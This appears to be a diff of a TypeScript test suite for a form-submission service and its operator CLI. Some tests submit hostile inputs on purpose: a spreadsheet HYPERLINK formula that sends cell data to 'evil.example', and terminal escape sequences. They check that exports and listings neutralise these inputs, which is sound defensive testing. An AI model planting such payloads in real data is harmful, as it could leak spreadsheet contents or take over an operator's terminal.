@@ -40,9 +40,7 @@ beforeAll(async () => {
 async function submit(name: string): Promise<string> {
   const answers = { name, email: `${name.replaceAll(' ', '.')}@example.com`, apiKey: 'secret' }
   const response = await operated.service.send('/api/forms/signup/submissions', {
-    method: 'POST',
-    headers: { 'content-type': 'application/json' },
-    body: JSON.stringify({ _gotcha: '', ...answers }),
+    json: { _gotcha: '', ...answers },
   })
   expect(response.status).toBe(200)
   await operated.service.settled()
@@ -81,9 +79,7 @@ test('what came in is a sheet with a column for each field, which no spreadsheet
   operated.service.clock.advance(1_000)
   const formula = '=HYPERLINK("https://evil.example?"&A1)'
   const send = await operated.service.send('/api/forms/signup/submissions', {
-    method: 'POST',
-    headers: { 'content-type': 'application/json' },
-    body: JSON.stringify({ _gotcha: '', name: formula, apiKey: 'secret', _utm_source: '@SUM(1)' }),
+    json: { _gotcha: '', name: formula, apiKey: 'secret', _utm_source: '@SUM(1)' },
   })
   const { submissionId } = (await send.json()) as { readonly submissionId: string }
   const { code, stdout, stderr } = await operator(
@@ -125,9 +121,7 @@ test('a sheet with labels has the words of each form', async () => {
   await storage.tenant('speaking').upsert('forms', [{ ...form('words'), definition }, form('more')])
   operated.service.clock.advance(1_000)
   const send = await operated.service.send('/api/forms/words/submissions', {
-    method: 'POST',
-    headers: { 'content-type': 'application/json' },
-    body: JSON.stringify({ _gotcha: '', services: ['wash', 'other'], terms: true, who: 'Zoe' }),
+    json: { _gotcha: '', services: ['wash', 'other'], terms: true, who: 'Zoe' },
   })
   expect(operated.service.errors).toEqual([])
   const { submissionId } = (await send.json()) as { readonly submissionId: string }
@@ -151,9 +145,7 @@ test('a sheet with labels has the words of each form', async () => {
 test('answers of strangers do not command the terminal', async () => {
   const name = '\u001b]0;owned\u0007\u009b2J\u202e\nx'
   const response = await operated.service.send('/api/forms/signup/submissions', {
-    method: 'POST',
-    headers: { 'content-type': 'application/json' },
-    body: JSON.stringify({ _gotcha: '', name, email: 'odd@example.com' }),
+    json: { _gotcha: '', name, email: 'odd@example.com' },
   })
   const { submissionId } = (await response.json()) as { readonly submissionId: string }
   const list = ['submissions', 'list', '--org', 'acme']
@@ -254,22 +246,16 @@ test('spam is listed with its reasons, unless it is left out, and what was held 
   expect((await operator('submissions', 'mark', id, ...at, '--clean', '--read')).stderr).toContain('exclude')
 })
 
-test('nothing of another organization is listed or shown', async () => {
+test('nothing of another organization is listed or shown, nor what does not exist', async () => {
   const id = await submit('mia')
   expect((await operator('submissions', 'list', '--org', 'other')).stdout).toBe('')
-  expect(await operator('submissions', 'show', id, '--org', 'other')).toMatchObject({ code: 1, stdout: '' })
-  expect(await operator('submissions', 'list', '--org', 'acme', '--form', 'theirs')).toMatchObject({
-    code: 1,
-  })
-  expect(await operator('form', 'show', 'theirs', '--org', 'acme')).toMatchObject({ code: 1, stdout: '' })
-})
-
-test('what does not exist, and a wrong limit, are errors', async () => {
-  expect((await operator('submissions', 'list', '--org', 'nobody')).code).toBe(1)
-  expect((await operator('submissions', 'list', '--org', 'acme', '--form', 'none')).code).toBe(1)
-  expect((await operator('form', 'list', '--org', 'nobody')).code).toBe(1)
-  for (const limit of ['0', '-1', '1.5', 'all'])
-    expect((await operator('submissions', 'list', '--org', 'acme', `--limit=${limit}`)).code).toBe(2)
+  for (const args of [
+    ['submissions', 'show', id, '--org', 'other'],
+    ['submissions', 'list', '--org', 'acme', '--form', 'theirs'],
+    ['submissions', 'list', '--org', 'acme', '--form', 'none'],
+    ['form', 'show', 'theirs', '--org', 'acme'],
+  ])
+    expect(await operator(...args)).toMatchObject({ code: 1, stdout: '' })
 })
 
 test('forms are listed and shown as an import takes them', async () => {
